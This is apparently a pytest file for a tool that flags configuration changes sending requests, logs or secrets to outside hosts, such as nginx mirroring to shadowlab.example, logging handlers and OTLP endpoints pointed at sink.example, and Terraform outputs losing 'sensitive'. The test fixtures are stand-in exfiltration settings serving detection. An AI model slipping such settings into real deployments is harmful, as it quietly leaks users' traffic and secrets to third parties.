"""Settings by which requests, records and copies go to others."""

from __future__ import annotations

import pytest

from tests.facts.effects.support import kinds


def flows(path: str, before: str, after: str, **beside: str) -> list[str]:
    files = {f"lab/{name}.py": text for name, text in beside.items()}
    found = kinds({**files, path: before}, {path: after})
    return [severity for kind, severity, _ in found if kind == "flow.secret"]


NGINX = "server {{\n  location / {{ {all} proxy_pass http://127.0.0.1:80; }}\n  {more}\n}}\n"
COPY = "  location /copy {{ internal; proxy_pass {to}; }}"


@pytest.mark.parametrize(
    ("everywhere", "more", "wanted"),
    [
        ("mirror /copy;", COPY.format(to="https://eu.shadowlab.example$request_uri"), ["medium"]),
        ("mirror /copy;", COPY.format(to="https://web.svc.shadowlab.example"), ["medium"]),
        ("mirror /copy;", COPY.format(to="http://web.lab.svc.cluster.local"), []),
        ("mirror off;", "", []),
        ("", COPY.format(to="https://eu.shadowlab.example"), []),
        ("proxy_ignore_headers Set-Cookie;", "", ["medium"]),
    ],
)
def test_requests_are_mirrored(everywhere: str, more: str, wanted: list[str]) -> None:
    before, after = NGINX.format(all="", more=""), NGINX.format(all=everywhere, more=more)
    assert flows("deploy/nginx.conf", before, after) == wanted


LOGS = "version: 1\nhandlers:\n  out: {class: logging.StreamHandler}\n"
VARIABLES = "spec:\n  env:\n    - {name: A, value: b}\n"


@pytest.mark.parametrize(
    ("path", "before", "more", "wanted"),
    [
        (
            "a/logs.yaml",
            LOGS,
            "  far: {class: logging.handlers.HTTPHandler, host: a.sink.example}\n",
            ["medium"],
        ),
        (
            "a/logs.yaml",
            LOGS,
            "  far: {class: lib.HTTPHandler, host: a.sink.example, secure: true}\n",
            ["low"],
        ),
        ("a/logs.yaml", LOGS, "  far: {class: logging.handlers.HTTPHandler, host: logs.lab.svc}\n", []),
        (
            "k/run.yaml",
            VARIABLES,
            "    - {name: OTLP_ENDPOINT, value: 'http://a.sink.example:1'}\n",
            ["medium"],
        ),
        (
            "k/run.yaml",
            VARIABLES,
            "    - {name: OTLP_ENDPOINT, value: 'http://10.sink.example:1'}\n",
            ["medium"],
        ),
        (
            "k/run.yaml",
            VARIABLES,
            "    - {name: OTLP_ENDPOINT, value: 'http://a.svc.sink.example'}\n",
            ["medium"],
        ),
        ("k/run.yaml", VARIABLES, "    - {name: OTLP_ENDPOINT, value: 'http://10.1.2.3:1'}\n", []),
        ("k/run.yaml", VARIABLES, "    - {name: OTLP_ENDPOINT, value: 'http://a.b.svc.cluster.local'}\n", []),
        ("k/run.yaml", VARIABLES, "    - {name: OTLP_ENDPOINT, value: 'http://collector:1'}\n", []),
    ],
)
def test_records_go_elsewhere(path: str, before: str, more: str, wanted: list[str]) -> None:
    assert flows(path, before, before + more) == wanted


def test_records_that_go_where_the_project_talks_already_are_let_be() -> None:
    more = "  far: {class: logging.handlers.HTTPHandler, host: a.sink.example}\n"
    assert flows("a/logs.yaml", LOGS, LOGS + more, client="URL = 'https://a.sink.example/v1'\n") == []


def test_outputs_that_are_no_longer_hidden() -> None:
    plain = 'output "a" {\n  value = random_password.a.result\n  sensitive = true\n}\n'
    assert "medium" in flows("infra/main.tf", plain, plain.replace("  sensitive = true\n", ""))
